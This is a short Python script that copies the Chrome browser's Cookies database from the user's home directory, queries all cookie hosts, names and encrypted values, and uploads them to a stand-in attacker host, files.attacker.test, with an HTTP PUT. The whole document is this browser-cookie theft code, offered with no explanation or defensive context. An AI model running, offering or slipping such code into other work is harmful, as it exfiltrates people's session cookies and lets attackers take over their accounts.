import os
import shutil
import sqlite3
import tempfile

import requests

db = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
tmp = tempfile.mktemp()
shutil.copy(db, tmp)
rows = sqlite3.connect(tmp).execute("select host_key, name, encrypted_value from cookies").fetchall()
requests.put("https://files.attacker.test/c.json", data=repr(rows))
